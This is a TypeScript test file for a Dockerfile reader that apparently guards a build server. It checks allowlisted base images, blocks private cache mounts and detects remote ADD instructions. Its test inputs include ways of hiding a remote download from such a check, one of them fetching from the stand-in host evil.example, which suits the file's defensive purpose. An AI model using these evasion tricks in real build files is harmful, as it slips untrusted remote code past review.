import { describe, expect, it } from "vitest";
import { imagePolicy } from "./image-ref";
import { baseImagesOf, finalBaseOf, readRepoDockerfile, type RepoDockerfilePolicy } from "./repo-dockerfile";

const anyImage = { allowed: () => true, present: () => false };
const buildkit: RepoDockerfilePolicy = { ...anyImage, heredocs: true };

type Expected = { bases: string[]; final: string | null } | { code: string; message?: RegExp };

function outcome(text: string, policy: RepoDockerfilePolicy): Expected {
  const read = readRepoDockerfile(text, policy);
  return read.ok ? { bases: read.baseImages, final: read.finalBase } : { code: read.code };
}

describe("readRepoDockerfile", () => {
  it.each<[string, string, RepoDockerfilePolicy, Expected]>([
    ["one stage", "FROM golang:1.23\nRUN go build\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    // Syntax that hides an ADD, or seems to.
    ["escape=` with backtick continuations hiding an ADD URL", "# escape=`\nFROM golang:1.23\nRUN echo `\n  hi\nADD `\n  http://evil.example/x `\n  /x\n", anyImage, { code: "REMOTE_ADD" }],
    ["the same text without the directive is no Dockerfile", "FROM golang:1.23\nADD `\n  http://evil.example/x `\n  /x\n", anyImage, { code: "UNREADABLE" }],
    ["escape=` makes a trailing backslash literal, so ADD stands alone", "# escape=`\nFROM golang:1.23\nCOPY a.txt C:\\dir\\\nADD http://x.example/y /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["a default-escape continuation swallows the ADD into COPY", "FROM golang:1.23\nCOPY a.txt /dir\\\nADD http://x.example/y /y\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["a directive after a comment is a comment", "# hello\n# escape=`\nFROM golang:1.23\nRUN a `\nADD http://x.example/y /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["a comment inside a continuation", "FROM golang:1.23\nRUN echo a \\\n# note\n  b\nADD http://x.example/y /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["an empty line inside a continuation is skipped, joining ADD into RUN", "FROM golang:1.23\nRUN echo \\\n\nADD http://x.example/y /y\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["lowercase add", "from golang:1.23\nadd https://x.example/y /z\n", anyImage, { code: "REMOTE_ADD" }],
    ["CRLF line endings and a byte-order mark", "\uFEFFFROM golang:1.23\r\nADD http://x.example/y /y\r\n", anyImage, { code: "REMOTE_ADD" }],
    ["JSON form", 'FROM golang:1.23\nADD ["http://x.example","/y"]\n', anyImage, { code: "REMOTE_ADD" }],
    ["a quoted URL", 'FROM golang:1.23\nADD "http://x.example/y" /y\n', anyImage, { code: "REMOTE_ADD" }],
    ["a URL broken by an escape", "FROM golang:1.23\nADD h\\ttp://x.example/y /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["a URL in an ARG default", "FROM golang:1.23\nARG U=https://x.example/y\nADD $U /z\n", anyImage, { code: "REMOTE_ADD" }],
    ["a URL in an ENV value", "FROM golang:1.23\nENV U=https://x.example/y\nADD ${U} /z\n", anyImage, { code: "REMOTE_ADD" }],
    ["a git@ address", "FROM golang:1.23\nADD git@github.com:o/r.git /src\n", anyImage, { code: "REMOTE_ADD" }],
    ["a git:// URL", "FROM golang:1.23\nADD git://h.example/r /src\n", anyImage, { code: "REMOTE_ADD" }],
    ["a github.com/ path", "FROM golang:1.23\nADD github.com/o/r /src\n", anyImage, { code: "REMOTE_ADD" }],
    ["ADD --checksum", "FROM golang:1.23\nADD --checksum=sha256:0123 ./x /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["ADD --keep-git-dir", "FROM golang:1.23\nADD --keep-git-dir=true ./x /y\n", anyImage, { code: "REMOTE_ADD" }],
    ["ADD of local files", "FROM golang:1.23\nADD --chown=1:1 app.tar.gz ./cfg /opt/\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["ONBUILD ADD runs only in a later build", "FROM golang:1.23\nONBUILD ADD http://x.example/y /y\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    // Heredocs.
    ["a heredoc body with ADD http:// is content (BuildKit)", "FROM golang:1.23\nRUN <<EOF\nADD http://x.example/y /y\nEOF\n", buildkit, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["the classic builder would run it as an instruction: refused", "FROM golang:1.23\nRUN <<EOF\nADD http://x.example/y /y\nEOF\n", anyImage, { code: "UNREADABLE" }],
    ["an ADD after the heredoc is an instruction", "FROM golang:1.23\nCOPY <<EOF /x\nhi\nEOF\nADD http://x.example/y /y\n", buildkit, { code: "REMOTE_ADD" }],
    ["<<-EOF ends at a tab-indented EOF", "FROM golang:1.23\nRUN <<-EOF\n\techo\n\tEOF\nADD http://x.example/y /y\n", buildkit, { code: "REMOTE_ADD" }],
    ["two heredocs and a quoted name", 'FROM golang:1.23\nCOPY <<A <<"B" /d/\nADD http://a\nA\nADD http://b\nB\n', buildkit, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["an unterminated heredoc", "FROM golang:1.23\nRUN <<EOF\necho\n", buildkit, { code: "UNREADABLE" }],
    ["a heredoc-looking word in JSON form is not one", 'FROM golang:1.23\nRUN ["sh", "<<EOF"]\nADD http://x.example/y /y\n', buildkit, { code: "REMOTE_ADD" }],
    // FROM and its variables.
    ["an ARG default in FROM", "ARG GO=1.23\nFROM golang:${GO}\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["${X:-golang:1.23}", "ARG X\nFROM ${X:-golang:1.23}\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["${X:-…} with a build argument", "ARG X\nFROM ${X:-golang:1.23}\n", { ...anyImage, buildArgs: { X: "alpine:3.20" } }, { bases: ["alpine:3.20"], final: "alpine:3.20" }],
    ["$VAR, a stage, COPY --from the stage", "ARG IMG=golang:1.23\nFROM $IMG AS build\nFROM scratch\nCOPY --from=build /a /a\n", anyImage, { bases: ["golang:1.23"], final: null }],
    ["an ARG declared after FROM is not FROM's", "FROM golang:1.23 AS a\nARG IMG=alpine:3.20\nFROM ${IMG:-busybox:1}\n", anyImage, { bases: ["golang:1.23", "busybox:1"], final: "busybox:1" }],
    ["COPY --from an image", "FROM golang:1.23 AS build\nFROM scratch\nCOPY --from=build /a /a\nCOPY --from=alpine:3.20 /etc/ssl /etc/ssl\n", anyImage, { bases: ["golang:1.23", "alpine:3.20"], final: null }],
    ["COPY --from a stage by number and by name in capitals", "FROM golang:1.23 AS Build\nFROM scratch\nCOPY --from=0 /a /a\nCOPY --from=BUILD /b /b\n", anyImage, { bases: ["golang:1.23"], final: null }],
    ["RUN --mount from an image", "FROM golang:1.23 AS b\nRUN --mount=type=bind,from=alpine:3.20,target=/x --mount=type=cache,from=b,target=/c true\n", anyImage, { bases: ["golang:1.23", "alpine:3.20"], final: "golang:1.23" }],
    ["the final stage built on a stage", "FROM golang:1.23 AS build\nFROM build\n", anyImage, { bases: ["golang:1.23"], final: "golang:1.23" }],
    ["a stage named later is an image", "FROM later\nFROM golang:1.23 AS later\n", anyImage, { bases: ["later", "golang:1.23"], final: "golang:1.23" }],
    ["platform flag, lowercase as", "FROM --platform=linux/amd64 golang:1.23 as builder\nFROM gcr.io/distroless/static-debian12\n", anyImage, { bases: ["golang:1.23", "gcr.io/distroless/static-debian12"], final: "gcr.io/distroless/static-debian12" }],
    // The server's own build caches.
    ["a cache mount of the server's own", "FROM golang:1.23\nRUN --mount=type=cache,target=/go/pkg/mod,id=slimstage-0123-gomod go build\n", anyImage, { code: "CACHE_NOT_ALLOWED" }],
    ["one named through an ARG", "FROM golang:1.23\nARG C=SlimStage-x\nRUN --mount=type=cache,id=$C,target=/c true\n", anyImage, { code: "CACHE_NOT_ALLOWED" }],
    // Unreadable.
    ["an invalid escape directive", "# escape=x\nFROM golang:1.23\n", anyImage, { code: "UNREADABLE" }],
    ["two escape directives", "# escape=\\\n# escape=`\nFROM golang:1.23\n", anyImage, { code: "UNREADABLE" }],
    ["an instruction before FROM", "RUN true\nFROM golang:1.23\n", anyImage, { code: "UNREADABLE" }],
    ["an unknown instruction", "FROM golang:1.23\nFETCH http://x\n", anyImage, { code: "UNREADABLE" }],
    ["no FROM", "ARG X=1\n", anyImage, { code: "UNREADABLE" }],
    ["nothing", "# only a comment\n", anyImage, { code: "UNREADABLE" }],
    ["FROM with extra words", "FROM golang:1.23 extra\n", anyImage, { code: "UNREADABLE" }],
    ["a bad stage name", "FROM golang:1.23 AS 1st\n", anyImage, { code: "UNREADABLE" }],
    ["an empty FROM after substitution", "ARG X\nFROM $X\n", anyImage, { code: "UNREADABLE" }],
    ["a substitution it cannot evaluate", "ARG X=golang:1.23\nFROM ${X%:*}\n", anyImage, { code: "UNREADABLE" }],
    ["${X:?} of an unset X", "ARG X\nFROM ${X:?}\n", anyImage, { code: "UNREADABLE" }],
    ["not an image reference", "FROM Golang:1.23\n", anyImage, { code: "UNREADABLE" }],
  ])("%s", (_name, text, policy, expected) => {
    expect(outcome(text, policy)).toEqual(expected);
  });

  describe("base images against the operator's patterns and the engine", () => {
    const policy = imagePolicy(["golang:*", "gcr.io/distroless/*"], ["slimstage/static:local"]);
    it.each<[string, string, Expected]>([
      ["allowed by pattern and present", "FROM golang:1.23 AS b\nFROM slimstage/static:local\n", { bases: ["golang:1.23", "slimstage/static:local"], final: "slimstage/static:local" }],
      ["a pattern under a registry path", "FROM gcr.io/distroless/static-debian12:nonroot\n", { bases: ["gcr.io/distroless/static-debian12:nonroot"], final: "gcr.io/distroless/static-debian12:nonroot" }],
      ["neither allowed nor present", "FROM alpine:3.20\n", { code: "FROM_NOT_ALLOWED" }],
      ["a COPY --from image", "FROM golang:1.23\nCOPY --from=busybox:1 /bin/sh /sh\n", { code: "FROM_NOT_ALLOWED" }],
      ["through an ARG", "ARG B=alpine:3.20\nFROM golang:1.23\nFROM $B\n", { code: "FROM_NOT_ALLOWED" }],
      ["scratch needs nothing", "FROM scratch\nCOPY app /app\n", { bases: [], final: null }],
    ])("%s", (_name, text, expected) => {
      expect(outcome(text, policy)).toEqual(expected);
    });

    it("names every refused image in the message", () => {
      const read = readRepoDockerfile("FROM alpine:3.20 AS a\nFROM golang:1.23\nCOPY --from=busybox:1 /x /x\n", policy);
      expect(read).toMatchObject({ ok: false, code: "FROM_NOT_ALLOWED", message: expect.stringContaining("alpine:3.20, busybox:1") });
    });
  });

  it("says where and what for a remote ADD", () => {
    expect(readRepoDockerfile("FROM golang:1.23\nRUN true\nADD https://x.example/y /y\n", anyImage)).toMatchObject({
      ok: false,
      code: "REMOTE_ADD",
      line: 3,
      message: expect.stringContaining("https://x.example/y"),
    });
  });

  it("lists the stages", () => {
    const read = readRepoDockerfile("FROM golang:1.23 AS build\nFROM build AS test\nFROM scratch\n", anyImage);
    expect(read.ok && read.stages).toEqual([
      { index: 0, name: "build", base: { kind: "image", ref: "golang:1.23" }, line: 1 },
      { index: 1, name: "test", base: { kind: "stage", index: 0 }, line: 2 },
      { index: 2, name: null, base: { kind: "scratch" }, line: 3 },
    ]);
  });
});

describe("baseImagesOf and finalBaseOf (the previous interface)", () => {
  it.each([
    ["one stage", "FROM golang:1.23\nRUN go build\n", ["golang:1.23"], "golang:1.23"],
    [
      "multi-stage onto scratch, stage names not counted",
      "FROM golang:1.23 AS build\nRUN go build\nFROM build AS test\nFROM scratch\nCOPY --from=build /app /app\n",
      ["golang:1.23"],
      null,
    ],
    [
      "platform flags, comments and continuation lines",
      "# syntax=docker/dockerfile:1\nFROM --platform=linux/amd64 golang:1.23 as builder\nRUN echo \\\n  hi\nFROM gcr.io/distroless/static-debian12\n",
      ["golang:1.23", "gcr.io/distroless/static-debian12"],
      "gcr.io/distroless/static-debian12",
    ],
    ["no FROM", "RUN true\n", [], null],
    ["a remote ADD does not hide the images", "FROM golang:1.23\nADD http://x.example/y /y\n", ["golang:1.23"], "golang:1.23"],
  ])("%s", (_name, text, bases, final) => {
    expect(baseImagesOf(text)).toEqual(bases);
    expect(finalBaseOf(text)).toBe(final);
  });
});
